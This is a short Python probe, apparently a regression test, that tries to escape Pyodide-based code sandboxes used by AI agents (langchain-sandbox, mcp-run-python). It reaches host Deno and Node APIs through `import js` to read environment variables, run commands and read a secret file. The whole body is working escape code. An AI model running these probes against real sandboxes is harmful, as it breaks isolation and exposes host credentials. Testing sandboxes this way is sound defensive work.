# From: langchain-sandbox and mcp-run-python: behind `import js` was Deno, with the permissions of the process.
# Ends: []
from gains import gains

PATHS = [
    "Deno", "Deno.env.toObject", "Deno.readTextFileSync", "Deno.Command", "Deno.core.ops", "Deno.permissions.requestSync", "Deno.exit", "Deno.dlopen",
    "process.env", "process.getBuiltinModule", "process.binding", "process.mainModule", "process.exit", "navigator", "location", "caches", "localStorage", "Worker",
    "WebSocket", "EventSource", "indexedDB", "name", "module", "exports", "global", "__dirname", "Iterator", "Proxy", "Promise", "Atomics", "SharedArrayBuffer",
]


def attack(probe):
    import js

    def walk(path):
        found = js
        for name in path.split("."):
            found = getattr(found, name)
        return found

    def imported(path):
        scope = {}
        exec(f"from js import {path.split('.')[0]} as prize", scope)
        return scope["prize"]

    read = lambda: js.Deno.readTextFileSync(probe["secret"])
    return gains([*(lambda path=path: walk(path) for path in PATHS), *(lambda path=path: imported(path) for path in PATHS), read, lambda: js.process.getBuiltinModule("fs").readFileSync(probe["secret"], "utf8")])
